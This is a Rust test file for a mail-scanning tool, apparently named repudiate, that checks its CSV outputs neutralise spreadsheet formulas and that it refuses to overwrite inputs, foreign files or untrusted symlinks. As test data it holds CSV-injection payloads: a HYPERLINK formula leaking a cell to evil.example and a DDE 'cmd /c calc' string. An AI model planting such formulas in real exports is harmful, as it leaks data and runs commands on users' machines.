//! Outputs that cannot hurt their reader or destroy data (issue 14, docs/design.md §6), through the
//! built binary: spreadsheet-safe CSV cells in every CSV the tool writes, read back raw when
//! a pairs file is given as input again.

use crate::support::bin::{bin, fixtures, stderr};

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

fn ok(o: Output) -> Output {
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    o
}

/// Every cell of a CSV text, parsed as CSV.
fn cells(text: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text);
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Asserts that no cell of `text` would be a formula, and that `text` has `needle` as a
/// cell (so the hostile value is really there, neutralised).
fn assert_safe(what: &str, text: &[u8], needle: &str) {
    let cells = cells(text);
    let formula = cells
        .iter()
        .find(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']));
    assert_eq!(formula, None, "{what}: {}", String::from_utf8_lossy(text));
    assert!(
        cells.iter().any(|c| c == needle),
        "{what} lacks {needle:?}: {}",
        String::from_utf8_lossy(text)
    );
}

const HYPERLINK: &str = "=hyperlink(\"http://evil.example/leak?\"&a1)";

#[test]
fn formula_cells_are_neutralised_everywhere_and_read_back_raw() {
    let tmp = tempfile::tempdir().unwrap();
    let mbox = fixtures().join("golden/csv-injection/hostile.mbox");
    let zone = fixtures().join("demo/what-if.zone");
    let scan = tmp.path().join("scan.csv");
    ok(bin()
        .args(["scan", "-q", "-o"])
        .arg(&scan)
        .arg(&mbox)
        .output()
        .unwrap());
    let scan_text = fs::read(&scan).unwrap();
    assert_safe("scan", &scan_text, &format!("'{HYPERLINK}"));

    let audit = |input: &Path, summary: &Path| {
        ok(bin()
            .args(["audit", "-q", "--offline", "--zone"])
            .arg(&zone)
            .arg("--summary")
            .arg(summary)
            .arg(input)
            .output()
            .unwrap())
    };
    let (direct_summary, merged_summary) = (tmp.path().join("d1.csv"), tmp.path().join("d2.csv"));
    let direct = audit(&mbox, &direct_summary);
    assert_safe("audit", &direct.stdout, "'-2+3");
    let summary = fs::read(&direct_summary).unwrap();
    assert_safe("--summary", &summary, "'+cmd|'/c calc'!a0");
    // The scan file as input: its neutralised cells are read back as the raw domains, so the
    // audit is the same as the audit of the mailbox itself.
    let merged = audit(&scan, &merged_summary);
    assert_eq!(
        String::from_utf8_lossy(&merged.stdout),
        String::from_utf8_lossy(&direct.stdout)
    );
    assert_eq!(fs::read(&merged_summary).unwrap(), summary);

    let check = ok(bin()
        .args([
            "check",
            "x@-1+2",
            "192.0.2.10",
            "--offline",
            "--format",
            "csv",
        ])
        .output()
        .unwrap());
    assert_safe("check --format csv", &check.stdout, "'-1+2");
}

/// The demo scan, with `extra` arguments, run by `sh` so standard output can be closed.
fn scan_via_sh(redirect: &str, extra: &[&str]) -> Output {
    let mbox = fixtures().join("demo/mail.mbox");
    Command::new("sh")
        .arg("-c")
        .arg(format!("exec \"$0\" \"$@\" {redirect}"))
        .arg(env!("CARGO_BIN_EXE_repudiate"))
        .args(["scan", "-q"])
        .arg(&mbox)
        .args(extra)
        .output()
        .unwrap()
}

#[test]
fn a_closed_standard_output_is_an_error_and_dev_null_is_not() {
    let closed = scan_via_sh(">&-", &[]);
    assert_eq!(closed.status.code(), Some(1), "{}", stderr(&closed));
    assert!(
        stderr(&closed).contains("standard output is closed"),
        "{}",
        stderr(&closed)
    );
    let discarded = scan_via_sh(">/dev/null", &[]);
    assert_eq!(discarded.status.code(), Some(0), "{}", stderr(&discarded));
    // With -o the closed standard output is not needed.
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("pairs.csv");
    let to_file = scan_via_sh(">&-", &["-o", out.to_str().unwrap()]);
    assert_eq!(to_file.status.code(), Some(0), "{}", stderr(&to_file));
    assert!(
        fs::read_to_string(&out)
            .unwrap()
            .starts_with("domain,ip,messages\n")
    );
}

#[test]
fn temporary_files_of_a_killed_run_are_removed_under_the_lock() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("pairs.csv");
    // What `kill -9` during a write leaves: the output's temporary file, never renamed.
    let stale = tmp.path().join(".repudiate-pairs.csv.Xy12Z9.tmp");
    fs::write(&stale, "domain,ip,messages\nhalf").unwrap();
    // Another output's temporary file: possibly a live run's, so it stays.
    let other = tmp.path().join(".repudiate-history.csv.Ab34Cd.tmp");
    fs::write(&other, "x").unwrap();
    ok(bin()
        .args(["scan", "-q", "-o"])
        .arg(&out)
        .arg(fixtures().join("demo/mail.mbox"))
        .output()
        .unwrap());
    assert!(!stale.exists(), "the stale temporary file is gone");
    assert!(
        other.exists(),
        "another output's temporary file is left alone"
    );
    let names: Vec<String> = fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !names.iter().any(|n| n.starts_with(".repudiate-pairs.csv.")),
        "{names:?}"
    );
}

/// The demo audit, offline, with `extra` arguments.
fn demo_audit(extra: &[&std::ffi::OsStr]) -> Output {
    let demo = fixtures().join("demo");
    bin()
        .args([
            "audit",
            "-q",
            "--offline",
            "--zone",
            "what-if.zone",
            "mail.mbox",
        ])
        .args(extra)
        .current_dir(demo)
        .output()
        .unwrap()
}

fn os(s: &str) -> &std::ffi::OsStr {
    std::ffi::OsStr::new(s)
}

/// Asserts exit 1 with `message` on standard error.
fn refused(o: &Output, message: &str) {
    assert_eq!(o.status.code(), Some(1), "{}", stderr(o));
    assert!(
        stderr(o).contains(message),
        "wanted {message:?} in: {}",
        stderr(o)
    );
}

#[test]
fn a_file_that_is_not_what_the_flag_writes_is_refused_and_kept() {
    let tmp = tempfile::tempdir().unwrap();
    let notes = tmp.path().join("notes.txt");
    let text = "my notes\nkeep them\n";
    for flag in ["--cache", "-o", "--summary", "--html", "--history"] {
        fs::write(&notes, text).unwrap();
        let o = demo_audit(&[os(flag), notes.as_os_str()]);
        refused(&o, "the file exists and is not a");
        assert!(
            stderr(&o).contains("refusing to replace it"),
            "{}",
            stderr(&o)
        );
        assert_eq!(fs::read_to_string(&notes).unwrap(), text, "{flag}");
    }
    // A history given as the cache: refused as a cache, the history rows kept.
    let history = tmp.path().join("history.csv");
    ok(demo_audit(&[os("--history"), history.as_os_str()]));
    let rows = fs::read_to_string(&history).unwrap();
    let o = demo_audit(&[os("--cache"), history.as_os_str()]);
    refused(&o, "is not a repudiate DNS cache");
    assert_eq!(fs::read_to_string(&history).unwrap(), rows);
    // Both at once is also two flags naming one file.
    let o = demo_audit(&[
        os("--cache"),
        history.as_os_str(),
        os("--history"),
        history.as_os_str(),
    ]);
    refused(&o, "--history and --cache name the same file");
    assert_eq!(fs::read_to_string(&history).unwrap(), rows);
    // Its own files are replaced (or extended) as ever, and an empty file is fair game.
    let (cache, pairs) = (tmp.path().join("dns.cache"), tmp.path().join("pairs.csv"));
    fs::write(&pairs, "").unwrap();
    for _ in 0..2 {
        ok(demo_audit(&[
            os("--cache"),
            cache.as_os_str(),
            os("-o"),
            pairs.as_os_str(),
            os("--history"),
            history.as_os_str(),
        ]));
    }
    assert!(
        fs::read_to_string(&cache)
            .unwrap()
            .starts_with("repudiate_dns_cache_v3,")
    );
    assert!(
        fs::read_to_string(&pairs)
            .unwrap()
            .starts_with("domain,ip,messages,")
    );
    assert_eq!(fs::read_to_string(&history).unwrap().lines().count(), 4);
}

#[test]
fn the_cache_takes_part_in_the_same_file_check_and_the_locks() {
    let tmp = tempfile::tempdir().unwrap();
    let same = tmp.path().join("same");
    let o = demo_audit(&[os("--cache"), same.as_os_str(), os("-o"), same.as_os_str()]);
    refused(&o, "--output and --cache name the same file");
    assert!(!same.exists());
    // A run holding the cache's lock keeps an audit from writing it.
    let cache = tmp.path().join("dns.cache");
    let lock = fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(tmp.path().join(".dns.cache.lock"))
        .unwrap();
    lock.lock().unwrap();
    let o = demo_audit(&[os("--cache"), cache.as_os_str(), os("--lock-wait"), os("0")]);
    refused(&o, "another repudiate run is writing");
    assert!(stderr(&o).contains("dns.cache"), "{}", stderr(&o));
    drop(lock);
    let o = ok(bin()
        .args([
            "check",
            "x@shop.example",
            "192.0.2.10",
            "--offline",
            "--cache",
        ])
        .arg(&cache)
        .output()
        .unwrap());
    assert!(String::from_utf8_lossy(&o.stdout).contains("verdict: tempfail"));
    // check writes the cache too, under its lock like any run.
    assert!(
        fs::read_to_string(&cache)
            .unwrap()
            .starts_with("repudiate_dns_cache_v3,")
    );
}

#[test]
fn an_output_naming_an_input_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let mbox = tmp.path().join("mail.mbox");
    fs::copy(fixtures().join("demo/mail.mbox"), &mbox).unwrap();
    let before = fs::read(&mbox).unwrap();
    let spelled_otherwise = tmp.path().join(".").join("mail.mbox");
    for flag in ["-o", "--summary", "--html", "--history", "--cache"] {
        let o = bin()
            .args(["audit", "-q", "--offline"])
            .arg(&mbox)
            .arg(flag)
            .arg(&spelled_otherwise)
            .output()
            .unwrap();
        refused(&o, "refusing to replace an input");
        assert_eq!(fs::read(&mbox).unwrap(), before, "{flag}");
    }
    let o = bin()
        .args(["scan", "-q"])
        .arg(&mbox)
        .arg("-o")
        .arg(&mbox)
        .output()
        .unwrap();
    refused(&o, "is the input");
    assert_eq!(fs::read(&mbox).unwrap(), before);
}

#[test]
fn a_cache_that_is_not_a_regular_file_is_refused_without_opening_it() {
    let tmp = tempfile::tempdir().unwrap();
    let fifo = tmp.path().join("pipe");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success(), "mkfifo (coreutils) is needed for this test");
    let started = std::time::Instant::now();
    for (cache, what) in [
        (fifo.as_path(), "is a FIFO"),
        (Path::new("/dev/zero"), "is a character device"),
        (tmp.path(), "is a directory"),
    ] {
        let o = demo_audit(&[os("--cache"), cache.as_os_str()]);
        refused(&o, what);
    }
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "refused at once, not after reading: {:?}",
        started.elapsed()
    );
    use std::os::unix::fs::FileTypeExt;
    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
}

/// A symlinked output is written through only when the link is the running user's or
/// root's; a link someone else planted is refused. As root (CI), the foreign link is one
/// given away to `nobody`; as a user, root's link must be followed and another user's cannot
/// be made, so the test needs root.
#[test]
fn a_symlinked_output_is_followed_only_when_its_owner_is_trusted() {
    use std::os::unix::fs::MetadataExt;
    let tmp = tempfile::tempdir().unwrap();
    let target = tmp.path().join("real.csv");
    let link = tmp.path().join("link.csv");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let mbox = fixtures().join("demo/mail.mbox");
    let scan = |out: &Path| {
        bin()
            .args(["scan", "-q"])
            .arg(&mbox)
            .arg("-o")
            .arg(out)
            .output()
            .unwrap()
    };
    ok(scan(&link));
    assert!(
        fs::read_to_string(&target)
            .unwrap()
            .starts_with("domain,ip,messages\n")
    );
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );

    let me = fs::symlink_metadata(&link).unwrap().uid();
    assert_eq!(
        me, 0,
        "this test plants a link owned by another user: run it as root (CI does)"
    );
    std::os::unix::fs::lchown(&link, Some(65534), None).unwrap();
    fs::write(&target, "domain,ip,messages\n").unwrap();
    let o = scan(&link);
    refused(&o, "is a symlink owned by uid 65534, neither you nor root");
    assert_eq!(fs::read_to_string(&target).unwrap(), "domain,ip,messages\n");
    // Refused before the lock, whose file would sit beside the link's target.
    fs::remove_file(tmp.path().join(".real.csv.lock")).unwrap();
    refused(&scan(&link), "neither you nor root");
    assert!(!tmp.path().join(".real.csv.lock").exists());
}
